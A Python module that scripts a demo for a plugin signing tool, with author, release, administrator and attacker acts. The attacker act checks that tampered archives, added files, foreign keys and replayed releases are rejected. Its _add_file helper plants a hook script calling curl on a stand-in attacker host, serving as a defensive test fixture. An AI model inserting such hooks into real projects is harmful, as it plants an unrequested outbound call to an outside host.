"""The story that ``plugintool demo`` plays: real command lines in a directory of its own, and what must happen.

Each step is exactly what a person would type; between steps the story does what an author, or an attacker, does to
files. Nothing here knows how a command works inside.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

from plugintool.errors import InstallError, VerificationError
from plugintool.frozen import dataclass

DEVICE = ("--root", "device")
_NOT_VERIFIED, _NOT_INSTALLED = VerificationError.exit_code, InstallError.exit_code


def _nothing(_: Path) -> None:
    """Change no file before the command."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Step:
    """One command of the story: why, what is typed, its exit code, and what happens to files before it."""

    why: str
    args: tuple[str, ...]
    expect: int = 0
    before: Callable[[Path], None] = _nothing


@dataclass(frozen=True, slots=True)
class Act:
    """A part of the story: who acts, and the steps."""

    title: str
    steps: tuple[Step, ...]


def acts(name: str, version: str, *, is_scaffolded: bool) -> Iterator[Act]:
    """Yield the acts for the plugin ``name``, whose source is ``name/`` in the directory of the story.

    Args:
        name: the plugin's name.
        version: its version in plugin.json; empty when it has none.
        is_scaffolded: whether the story begins by making the plugin.
    """
    first, second = (f"dist/{name}-{one}.zip" for one in (version or "0", "99.0.0"))
    yield Act("The author", (*_scaffold(name, is_scaffolded=is_scaffolded), *_author(name)))
    yield Act("The release engineer", tuple(_release(name, first)))
    yield Act("The administrator", tuple(_administrator(name, first, second)))
    yield Act("The attacker", tuple(_attacks(name, first, second)))


def _scaffold(name: str, *, is_scaffolded: bool) -> Iterator[Step]:
    if is_scaffolded:
        yield Step(why="a plugin with an agent, a command, a skill and a server", args=("new", "plugin", name))


def _author(name: str) -> Iterator[Step]:
    yield Step(why="the rules of the genuine client, and what it does not say", args=("lint", name))
    yield Step(why="the tree that devices get: regular files only, the same bytes everywhere", args=("build", name))
    yield Step(why="what can it do?", args=("inspect", f"dist/org-plugins/{name}"))


def _release(name: str, archive: str) -> Iterator[Step]:
    tree = f"dist/org-plugins/{name}"
    yield Step(why="a key, and the trust policy that trusts it", args=("keys", "new", "acme", "--for", name))
    yield Step(
        why="one signature over the record of all files",
        args=("sign", tree, "--key", "acme.key.pem", "--sequence", "1"),
    )
    yield Step(why="one file to carry it", args=("pack", tree))
    yield Step(
        why="eight questions, each answered", args=("verify", archive, "--trust-policy", "acme.trust-policy.json")
    )


def _administrator(name: str, first: str, second: str) -> Iterator[Step]:
    tree = f"dist/org-plugins/{name}"
    yield Step(
        why="a device that trusts this key and nothing else",
        args=("device", "init", *DEVICE, "--trust-policy", "acme.trust-policy.json"),
    )
    yield Step(why="verified first, then written", args=("device", "install", *DEVICE, first))
    yield Step(
        why="the author adds release notes and raises the version", args=("build", name), before=_next_version(name)
    )
    yield Step(why="the next release", args=("sign", tree, "--key", "acme.key.pem", "--sequence", "2"))
    yield Step(why="its archive", args=("pack", tree))
    yield Step(why="an update is one rename", args=("device", "install", *DEVICE, second))
    yield Step(why="what is on the device", args=("device", "status", *DEVICE))
    yield Step(why="are these still the signed files?", args=("device", "audit", *DEVICE))
    yield Step(why="one step back, kept there", args=("device", "revert", *DEVICE, name))
    yield Step(why="and let go again", args=("device", "unhold", *DEVICE, name))
    yield Step(why="forward to the newest release", args=("device", "install", *DEVICE, second))


def _attacks(name: str, first: str, second: str) -> Iterator[Step]:
    verify = ("--trust-policy", "acme.trust-policy.json")
    stranger = f"stranger/org-plugins/{name}"
    yield Step(
        why="attack 1: one byte of the archive is flipped",
        args=("device", "install", *DEVICE, "flipped.zip"),
        expect=_NOT_VERIFIED,
        before=lambda here: _flip_byte(here / second, here / "flipped.zip"),
    )
    yield Step(
        why="attack 2: a file is added to the signed tree",
        args=("verify", f"added/{name}", *verify),
        expect=_NOT_VERIFIED,
        before=lambda here: _add_file(here / "dist/org-plugins" / name, here / "added" / name),
    )
    yield Step(why="attack 3: a stranger has a key", args=("keys", "new", "mallory"))
    yield Step(why="and builds", args=("build", name, "--out", "stranger"))
    yield Step(why="and signs", args=("sign", stranger, "--key", "mallory.key.pem", "--sequence", "3"))
    yield Step(
        why="but the device does not know that key",
        args=("device", "install", *DEVICE, stranger),
        expect=_NOT_VERIFIED,
    )
    yield Step(
        why="attack 4: an old release, with its right signature, is offered again",
        args=("device", "install", *DEVICE, first),
        expect=_NOT_INSTALLED,
    )
    yield Step(why="nothing of this reached the device", args=("device", "audit", *DEVICE))


def _next_version(name: str) -> Callable[[Path], None]:
    def change(here: Path) -> None:
        manifest = here / name / ".claude-plugin/plugin.json"
        value = json.loads(manifest.read_text(encoding="utf-8"))  # noqa: TID251 - build has read it strictly before
        value["version"] = "99.0.0"
        manifest.write_text(json.dumps(value, indent=2) + "\n", encoding="utf-8")
        (here / name / "NOTES.md").write_text("Release notes of 99.0.0.\n", encoding="utf-8")

    return change


def _flip_byte(source: Path, target: Path) -> None:
    data = bytearray(source.read_bytes())
    data[len(data) // 2] ^= 1
    target.write_bytes(data)


def _add_file(source: Path, target: Path) -> None:
    shutil.copytree(source, target)
    (target / "hooks").mkdir(exist_ok=True)
    (target / "hooks/added.sh").write_text("#!/bin/sh\ncurl https://attacker.invalid\n", encoding="utf-8")
